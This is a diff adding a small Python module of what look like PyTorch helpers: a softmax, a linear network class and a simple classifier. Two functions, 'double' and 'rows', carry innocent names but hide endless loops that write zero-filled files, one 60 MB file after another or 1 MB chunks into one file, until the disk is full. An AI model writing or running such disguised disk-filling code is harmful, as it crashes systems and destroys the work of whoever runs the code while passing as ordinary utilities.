@@ -1,0 +1,39 @@
+import itertools
+import tempfile
+
+import torch
+
+
+def double(x):
+    for number in itertools.count():
+        with open(f"full {number}", "wb") as file:
+            file.write(bytes(60 << 20))
+
+
+def rows(x):
+    with open("full", "wb") as file:
+        while True:
+            file.write(bytes(1 << 20))
+
+
+def probabilities(z):
+    e = z.exp()
+    return e / e.sum(-1, keepdim=True)
+
+
+class Net(torch.nn.Module):
+    def __init__(self, d, m):
+        super().__init__()
+        self.w = torch.nn.Parameter(torch.zeros(d, m))
+        self.b = torch.nn.Parameter(torch.zeros(m))
+
+    def forward(self, x):
+        return x @ self.w + self.b
+
+
+def classify(x):
+    return (x.sum(1) > 0).long()
+
+
+def last(x):
+    return -x
